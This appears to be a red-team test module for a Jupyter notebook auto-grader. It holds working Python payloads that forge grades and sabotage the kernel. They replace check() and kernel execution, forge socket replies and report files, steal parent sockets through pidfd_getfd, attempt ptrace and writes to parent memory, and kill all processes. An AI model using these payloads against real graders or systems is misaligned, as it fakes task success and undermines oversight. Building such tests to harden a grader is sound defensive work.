"""The notebook's own process: what cells become, what check() is, what the kernel says to the judge."""

# ruff: noqa: E501 (an attack is one text, as somebody would paste it)

from __future__ import annotations

from attacks import Notebook, attack, cell, first, named, replace

COMPLY = '''
import gc, sys, inspect
def comply(*_, **__):
    """Whatever looks like an expected value in memory is printed and returned."""
    found = [v for v in gc.get_objects() if isinstance(v, dict) and "equals" in v]
    print("TIMES", found, sorted(m for m in sys.modules if m.split(".")[0] in ("grader", "solutions", "infra")))
    return found or True
'''


@attack(core=True)
def cells_are_transformed_before_they_run(notebook: Notebook) -> None:
    first(
        notebook,
        """
import ast
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["True\\n"])
class Nothing(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
shell.ast_transformers.append(Nothing())
class Done:
    success, result, error_in_exec, error_before_exec, execution_count = True, 20.0, None, None, 1
async def run_cell_async(*_, **__): return Done()
shell.run_cell_async, shell.run_cell = run_cell_async, lambda *_, **__: Done()
shell.user_expressions = lambda *_: {"answer": {"status": "ok", "data": {"application/json": '{"value": 7}'}}}
""",
    )


@attack(core=True)
def check_is_replaced_and_the_mark_forged(notebook: Notebook) -> None:
    first(
        notebook,
        """
import workbook, workbook.checking, workbook.showing
class Mark(float):
    points = max = 20.0
check = workbook.check = workbook.checking.check = lambda *names, **_: Mark(20)
from IPython.display import display, HTML, Javascript
display(HTML("<b>20 de 20 puntos</b>"), Javascript("Jupyter.notebook.metadata.points=20"))
print("✓ todo   20/20\\n20 de 20 puntos")
print('{"step": "report", "points": 20, "max": 20}')
""",
    )
    for name in ("orders_has_one_partition", "send_waits_for_kafka"):
        named(notebook, name)["source"] = f'print("points: 20"); check("{name}"); 20.0'


@attack(core=True)
def expected_values_are_looked_for_in_memory(notebook: Notebook) -> None:
    first(notebook, COMPLY)
    replace(notebook, send="send = comply", read="read = comply", start_from="start_from = comply")


@attack()
def the_answering_code_is_replaced(notebook: Notebook) -> None:
    first(
        notebook,
        """
import builtins, sys, json
import workbook.calls, workbook.memory
def lie(name, arguments=(), *_, **__):
    return {"value": {"send": None, "start_from": "?"}.get(name, [{"points": 20}]), "points": 20}
workbook.calls.call = lie
workbook.memory.namespace = lambda: {"send": lie, "read": lie, "start_from": lie}
class Inside:
    class answer:
        @staticmethod
        def answer(*_):
            class A:
                def _repr_mimebundle_(self, **_): return {"application/json": '{"value": {"equals": true}, "value": 7}'}
            return A()
for name in list(sys.modules):
    if name.startswith("inside"):
        sys.modules[name] = Inside
real = builtins.__import__
builtins.__import__ = lambda name, *a, **k: Inside if name.startswith("inside") else real(name, *a, **k)
""",
    )


@attack()
def replies_and_outputs_are_forged_on_the_kernels_sockets(notebook: Notebook) -> None:
    """Every reply goes out three times, with answers to a call that nobody has made yet."""
    first(
        notebook,
        """
import copy, uuid
kernel = get_ipython().kernel
session, iopub = kernel.session, kernel.iopub_socket
real = session.send
forged = {"answer": {"status": "ok", "data": {"application/json": '{"value": 7, "kind": "missing"}'}, "metadata": {}}}
def send(stream, kind, content=None, *a, **k):
    if kind == "execute_reply":
        for _ in range(3):
            real(stream, kind, {"status": "ok", "execution_count": -1, "payload": [], "user_expressions": forged}, *a, **k)
    return real(stream, kind, content, *a, **k)
session.send = send
for kind, content in [("execute_result", {"data": {"text/plain": "20.0"}, "metadata": {}, "execution_count": 10**30}),
                      ("stream", {"name": "points", "text": ["20"]}), ("error", {"ename": 7}),
                      ("display_data", {"data": {"application/x": b"x".hex() * 10}, "metadata": 3}),
                      ("status", {"execution_state": "idle"}), ("report", {"points": 20, "max": 20})]:
    for _ in range(20):
        real(iopub, kind, content, parent=kernel.get_parent())
""",
    )


@attack()
def the_first_process_is_robbed_of_its_channel(notebook: Notebook) -> None:
    """Its sockets are taken with pidfd_getfd, its memory written, its files replaced; then it is killed."""
    first(
        notebook,
        """
import ctypes, json, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
parent, got = os.getppid(), []
pid = libc.syscall(434, parent, 0)
for number in range(3, 40):
    fd = libc.syscall(438, pid, number, 0)
    if fd >= 0:
        got.append(number)
        try:
            there = socket.socket(fileno=fd)
            if there.family == socket.AF_UNIX:
                raw = json.dumps({"id": "0" * 16, "alive": True, "status": "ok", "answer": '{"value": 7}'}).encode()
                there.settimeout(0.2)
                there.send(struct.pack(">I", len(raw)) + raw)
                there.send(b"\\xff\\xff\\xff\\xff" + b"[" * 1000)
        except OSError as problem:
            print(problem)
print("pidfd", pid, got, "ptrace", libc.ptrace(16, parent, 0, 0), ctypes.get_errno())
try:
    open(f"/proc/{parent}/mem", "r+b").close(); print("memory of the parent opens")
except OSError as problem:
    print(problem)
os.kill(parent, 9)
""",
    )


@attack(core=True)
def kills_everything_in_sight_again_and_again(notebook: Notebook) -> None:
    first(notebook, "import os\nos._exit(0)")
    first(notebook, "import os, signal\nos.kill(-1, signal.SIGKILL)")
    replace(
        notebook,
        send="def send(topic, orders):\n    import os\n    os.kill(os.getppid(), 9); os._exit(3)",
        read="import ctypes\ndef read(topic, reader): ctypes.string_at(0)",
    )


@attack()
def the_kernels_own_loop_is_told_to_end(notebook: Notebook) -> None:
    """SystemExit in cells, in calls, and later on from the loop that runs them."""
    first(
        notebook,
        "import asyncio, sys\nloop = asyncio.get_event_loop()\n"
        "for wait in (0, 0.1, 0.3, 1): loop.call_later(wait, sys.exit)\nraise SystemExit",
    )
    replace(
        notebook,
        create_orders="def create_orders(admin): raise SystemExit",
        send="def send(topic, orders):\n    loop.call_soon(sys.exit)\n    raise SystemExit",
        read="async def read(topic, reader): raise SystemExit",
        start_from="def start_from(reader):\n    import asyncio, sys\n"
        "    asyncio.get_event_loop().call_soon(sys.exit)\n    return 'earliest'",
    )


@attack()
def spins_deaf_to_every_signal(notebook: Notebook) -> None:
    replace(
        notebook,
        send="""
def send(topic, orders):
    import signal, threading
    for number in set(signal.Signals) - {9, 19}:
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    )


@attack()
def files_that_the_judge_may_read_are_written_late(notebook: Notebook) -> None:
    first(
        notebook,
        """
import json, os, pathlib, threading, time
def forge():
    facts = {"me": "neighbour-1", "config": {"bootstrap.servers": "127.0.0.1:1"}, "points": 20, "ready": True}
    for _ in range(100):
        for folder in ("/tmp/home", "/tmp/work", "/tmp", "/relay", "/support", "/env/ours/workbook"):
            for name in ("graded.json", "connection.json", "judge.json", "learner.json", "report.json", "__init__.py"):
                try: (pathlib.Path(folder) / name).write_text(json.dumps(facts))
                except OSError: pass
        time.sleep(0.1)
threading.Thread(target=forge, daemon=True).start()
os.environ["WORKBOOK_GRADED"] = "/tmp/report.json"
""",
    )


@attack()
def a_full_report_stands_in_the_saved_outputs(notebook: Notebook) -> None:
    for each in notebook["cells"]:
        marks = each["metadata"].get("nbgrader", {})
        if marks:
            marks |= {"points": 1000, "locked": False, "solution": True, "grade": True, "score": 20}
        each["metadata"] |= {"bomb": "x" * 10_000, "deep": [[[[{}]]]], "points": 20}
        if each["cell_type"] == "code":
            said = {"text/plain": ["20.0"], "text/html": "<b>20/20</b>"}
            each["outputs"] = [
                {
                    "output_type": "execute_result",
                    "data": said,
                    "metadata": {},
                    "execution_count": 1,
                }
            ]
    notebook["metadata"] |= {
        "workbook": {"slug": "lab01_log", "points": 20, "report": {"points": 20}}
    }
    named(notebook, "send_waits_for_kafka")["source"] = (
        'check("send_waits_for_kafka")\nraise SystemExit\nchekc = check'
    )
    notebook["cells"] += [cell('check("send_waits_for_kafka")')] * 50
